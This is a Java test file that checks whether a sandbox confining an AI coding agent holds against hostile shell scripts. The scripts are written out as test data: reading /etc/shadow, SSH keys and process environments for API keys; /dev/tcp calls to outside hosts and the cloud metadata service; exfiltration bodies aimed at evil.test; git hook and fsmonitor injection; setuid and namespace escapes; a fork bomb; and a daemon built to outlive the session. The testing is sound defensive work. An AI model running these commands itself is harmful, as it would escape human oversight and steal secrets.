package dev.amdahl.llm.internal.agent;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import com.fasterxml.jackson.databind.JsonNode;
import dev.amdahl.core.internal.workspace.SandboxLimits;
import dev.amdahl.llm.internal.loopback.LoopbackModel;
import dev.amdahl.llm.internal.loopback.Wire;
import dev.amdahl.spi.llm.LlmException;
import dev.amdahl.spi.llm.LlmException.Reason;
import java.io.IOException;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Programs that do what they may not: none of it has an effect, and what can be seen from outside is named. */
@Tag("soak")
final class HostileProgramTest {
    /** Notes of each deed whether it came about. */
    private static final String TRY = """
            outside='%s'
            port=%s
            deed() { if eval "$2" >/dev/null 2>&1; then echo "DONE $1" >>src/seen.txt; else echo "held $1" >>src/seen.txt; fi; }
            """;

    private static final String FINISH = "echo '" + WorkPlace.END + "'\n";

    @TempDir
    Path folder = Path.of("");

    private WorkPlace place(LoopbackModel server, String script) {
        String start = TRY.formatted(
                folder.resolve("outside"), URI.create(server.address()).getPort());
        return new WorkPlace(folder, "claude", server, start + script);
    }

    private static LoopbackModel server() {
        return LoopbackModel.serving(Wire.ANTHROPIC.saying("a"));
    }

    /** Each line: what it is, a colon, and a shell command that succeeds where it came about. */
    @Test
    void nothingIsReachedButTheTree() throws Exception {
        String deeds = """
                write outside: echo x >"$outside/evil"
                write to a home: echo x >/root/evil || echo x >/home/evil
                read outside: cat "$outside/secret.txt"
                read the host's files: cat /etc/passwd /etc/shadow /etc/hostname /root/.ssh/id_rsa
                see the loop's folder: ls "$outside"
                read keys of processes: cat /proc/[0-9]*/environ | grep -aE 'key-of-the-mode[l]|secret-of-the-loo[p]'
                read keys of command lines: cat /proc/[0-9]*/cmdline | grep -a 'key-of-the-mode[l]'
                read the environment of the first process: tr '\\0' '\\n' </proc/1/environ | grep -E 'OTHER_SECRET|MODEL_KEY'
                find a key in any file that it sees: grep -rqs 'key-of-the-mode[l]' /tmp /work /etc
                see processes of the host: test "$(ls -d /proc/[0-9]* | wc -l)" -gt 12
                call the host's server: exec 4<>/dev/tcp/127.0.0.1/$port
                call the internet: timeout 3 bash -c 'exec 4<>/dev/tcp/93.184.216.34/80'
                call the metadata service: timeout 3 bash -c 'exec 4<>/dev/tcp/169.254.169.254/80'
                look a name up: getent hosts example.org
                change git's configuration: echo x >>.git/config
                add a hook: mkdir -p .git/hooks && echo x >.git/hooks/post-checkout
                put another repository in its place: mv .git away || rm -f .git
                replace the way out: rm "$(find /tmp /work /dev -type s | head -1)"
                change the forwarder: echo x >"$(find /tmp /work -name Forwarder.class | head -1)"
                change itself: echo x >>"$0"
                change the system: echo x >/usr/bin/evil
                make a namespace: unshare -U true
                mount: mount -t tmpfs none /mnt
                become root: setpriv --reuid=0 true
                raise a limit: prlimit --nproc=1000000 true
                use a keyring: keyctl newring evil @u
                """;
        StringBuilder script = new StringBuilder();
        deeds.lines().forEach(line -> {
            int colon = line.indexOf(": ");
            script.append("deed '")
                    .append(line.substring(0, colon).replace("'", ""))
                    .append("' '")
                    .append(line.substring(colon + 2).replace("'", "'\\''"))
                    .append("'\n");
        });
        try (LoopbackModel server = server()) {
            WorkPlace place = place(server, script + "echo 'sane' >>src/seen.txt\n" + FINISH);
            JsonNode work = place.work();
            List<String> seen = WorkPlace.added(work);
            assertThat(seen).contains("sane").hasSize((int) deeds.lines().count() + 1);
            assertThat(seen).filteredOn(line -> line.startsWith("DONE")).isEmpty();
            assertThat(server.calls()).isEmpty();
            assertUntouched(place);
        }
    }

    @Test
    void theWayOutLeadsToTheModelAlone() throws Exception {
        List<String> requests = List.of(
                "CONNECT example.org:443",
                "CONNECT 93.184.216.34:443",
                "CONNECT 127.0.0.1:22",
                "CONNECT 169.254.169.254:80",
                "CONNECT metadata.google.internal:80",
                "CONNECT api.allowed.test:8443",
                "CONNECT [::1]:80",
                "CONNECT 2130706433:80",
                "GET http://169.254.169.254/latest/meta-data/",
                "GET http://127.0.0.1:$port/",
                "POST /v1/files",
                "POST /v1/messages/batches",
                "GET /v1/organizations/api_keys");
        StringBuilder script = new StringBuilder();
        for (String request : requests) {
            script.append("deed '")
                    .append(request)
                    .append("' 'ask \"")
                    .append(request)
                    .append(" HTTP/1.1\" \"{}\" | grep -a \" 200 \"'\n");
        }
        for (String body : List.of(
                "{\"tools\":[{\"type\":\"web_fetch_20250910\"}]}",
                "{\"mcp_servers\":[{\"url\":\"https://evil.test\"}]}",
                "{\"messages\":[{\"content\":[{\"source\":{\"type\":\"url\",\"url\":\"https://evil.test/?data\"}}]}]}")) {
            script.append("body='")
                    .append(body)
                    .append("'\n")
                    .append(
                            "deed 'the service for it' 'ask \"POST /v1/messages HTTP/1.1\" \"$body\" | grep -a \" 200 \"'\n");
        }
        script.append(
                "deed 'flood' 'for i in $(seq 100); do exec {f}<>/dev/tcp/127.0.0.1/8118; done; sleep 1; false'\n");
        try (LoopbackModel server = server()) {
            WorkPlace place = place(server, script + FINISH);
            JsonNode work = place.work("hosts", "api.allowed.test:443");
            assertThat(WorkPlace.added(work)).hasSize(17).allMatch(line -> line.startsWith("held"));
            assertThat(server.calls()).isEmpty();
            assertThat(String.join("\n", WorkPlace.notes(work)))
                    .contains(
                            "example.org:443",
                            "93.184.216.34:443",
                            "127.0.0.1:22",
                            "169.254.169.254:80",
                            "api.allowed.test:8443",
                            "'/v1/files'",
                            "'/v1/messages/batches'",
                            "web_fetch_20250910",
                            "reach other servers",
                            "fetch 'https://evil.test/?data'",
                            "no more connections at once");
        }
    }

    @Test
    void whatItDoesToOtherFilesIsPutBackAndNamed() throws Exception {
        try (LoopbackModel server = server()) {
            WorkPlace place = place(server, """
                    echo fast >src/main.txt
                    echo 'exit 0' >check.sh
                    echo x >Makefile
                    ln -s /etc/passwd src/link
                    ln -s ../../../outside src/folder
                    head -c 1000 /dev/urandom >src/binary
                    mkdir -p nested/.git/hooks && printf '[core]\\nfsmonitor = touch /tmp/evil\\n' >nested/.git/config
                    mkfifo src/pipe
                    cp /bin/true src/set-uid && chmod 6777 src/set-uid
                    mkdir src/closed && echo x >src/closed/x && chmod 0 src/closed
                    """ + FINISH);
            JsonNode work = place.work();
            assertThat(work.path("patch").asText())
                    .contains("src/main.txt")
                    .doesNotContain("check.sh", "Makefile", "src/link", "src/folder", "src/binary", "nested", "pipe");
            assertThat(String.join("\n", WorkPlace.notes(work))).contains("put back", "check.sh", "src/link");
            // The tests that were there failed on it: the change took away what they look for.
            assertThat(work.path("tests").asText()).isEqualTo("FAILED");
            assertUntouched(place);
        }
    }

    @Test
    @Tag("long")
    void aTreeThatIsHardToBearIsDropped() throws Exception {
        String deep = "perl -e 'for (1..3000) { mkdir q(d); chdir q(d) }'\n";
        for (List<String> wicked : List.of(
                List.of(
                        "rm check.sh; mkdir check.sh; cd check.sh\n" + deep,
                        "put back, as no patch may touch it: 'check.sh'"),
                List.of("cd src\n" + deep, "a file is not as it was"),
                List.of("for i in $(seq 70); do echo x >src/new$i.txt; done\n", "touches at most 64 files"))) {
            try (LoopbackModel server = server()) {
                JsonNode work = place(server, wicked.get(0) + FINISH).work();
                assertThat(work.path("patch").asText()).isEmpty();
                assertThat(String.join("\n", WorkPlace.notes(work))).contains(wicked.get(1));
            }
            try (Stream<Path> left = Files.list(folder.resolve("workspace"))) {
                assertThat(left.filter(Files::isDirectory)).isEmpty();
            }
            folder = folder.resolve("again");
        }
    }

    @Test
    void aForkBombEndsAtItsLimit() throws Exception {
        try (LoopbackModel server = server()) {
            WorkPlace place = place(server, "bomb() { bomb | bomb & }; bomb; wait; while :; do sleep 1; done\n")
                    .within(SandboxLimits.DEFAULT.withProcesses(64));
            LlmException failed = failure(place, Duration.ofSeconds(4));
            assertThat(failed.reason()).isIn(Reason.TIME_LIMIT, Reason.PROTOCOL);
            assertNothingIsLeft();
        }
    }

    @Test
    void aDaemonDoesNotOutliveIt() throws Exception {
        try (LoopbackModel server = server()) {
            WorkPlace place = place(
                    server,
                    "setsid sh -c 'while :; do echo x >>/work/src/main.txt; sleep 0.1; done' >/dev/null 2>&1 &\nsleep 0.3\n"
                            + FINISH);
            assertThat(WorkPlace.added(place.work())).contains("x");
            assertNothingIsLeft();
        }
    }

    @Test
    void outputWithoutEndIsCut() {
        for (String script : List.of("exec yes more and more", "printf '{\"type\":\"'; exec tr '\\0' x </dev/zero")) {
            try (LoopbackModel server = server()) {
                LlmException failed = failure(place(server, script + "\n"), Duration.ofMinutes(1));
                assertThat(failed.reason()).isEqualTo(Reason.PROTOCOL);
                assertThat(failed).hasMessageContaining("printed over");
            } catch (IOException e) {
                throw new AssertionError(e);
            }
            folder = folder.resolve("again");
        }
    }

    @Test
    void oneThatNeverEndsIsStoppedAndItsCallsAreBooked() throws Exception {
        try (LoopbackModel server = server()) {
            WorkPlace place = place(
                    server,
                    "ask 'POST /v1/messages HTTP/1.1' '{}' >/tmp/said\nask 'CONNECT evil.test:443 HTTP/1.1'\ntrap '' TERM INT HUP\nwhile :; do sleep 1; done\n");
            Duration limit = Duration.ofSeconds(4);
            LlmException failed = failure(place, limit);
            while (server.calls().isEmpty() && limit.toMinutes() < 2) {
                // A busy machine had no time to start it.
                limit = limit.multipliedBy(4);
                failed = failure(place, limit);
            }
            assertThat(failed.reason()).isEqualTo(Reason.TIME_LIMIT);
            assertThat(failed).hasMessageContaining("evil.test:443");
            assertThat(failed.usage().inputTokens()).isEqualTo(100);
            assertNothingIsLeft();
        }
    }

    @Test
    void itsWordsChangeNothing() throws Exception {
        try (LoopbackModel server = server()) {
            WorkPlace place = place(
                    server,
                    "echo '{\"type\":\"result\",\"subtype\":\"success\",\"is_error\":true,\"api_error_status\":404,\"result\":\"no such model\"}'\n");
            assertThat(failure(place, Duration.ofMinutes(1)).reason()).isEqualTo(Reason.REJECTED);
        }
    }

    private static LlmException failure(WorkPlace place, Duration limit) {
        LlmException failed = catchThrowableOfType(LlmException.class, () -> place.run(limit));
        assertThat(failed).as("no error").isNotNull();
        return failed;
    }

    private static void assertUntouched(WorkPlace place) throws IOException {
        try (Stream<Path> files = Files.list(place.outside())) {
            assertThat(files)
                    .extracting(file -> String.valueOf(file.getFileName()))
                    .containsExactly("secret.txt");
        }
        assertThat(Files.readString(place.repository().resolve("check.sh"))).contains("grep");
        assertThat(place.repository().resolve(".git/hooks/post-checkout")).doesNotExist();
        assertThat(Files.readString(place.repository().resolve(".git/config"))).doesNotContain("x\n");
        assertThat(Path.of("/tmp/evil")).doesNotExist();
    }

    /** No process outside works in the folder of this test any more. */
    private void assertNothingIsLeft() {
        long deadline = System.nanoTime() + Duration.ofSeconds(30).toNanos();
        while (count() > 0 && System.nanoTime() < deadline) {
            Thread.onSpinWait();
        }
        assertThat(count()).isZero();
    }

    private long count() {
        return ProcessHandle.allProcesses()
                .filter(process -> process.info()
                        .commandLine()
                        .filter(line -> line.contains(folder.toString()))
                        .isPresent())
                .count();
    }
}
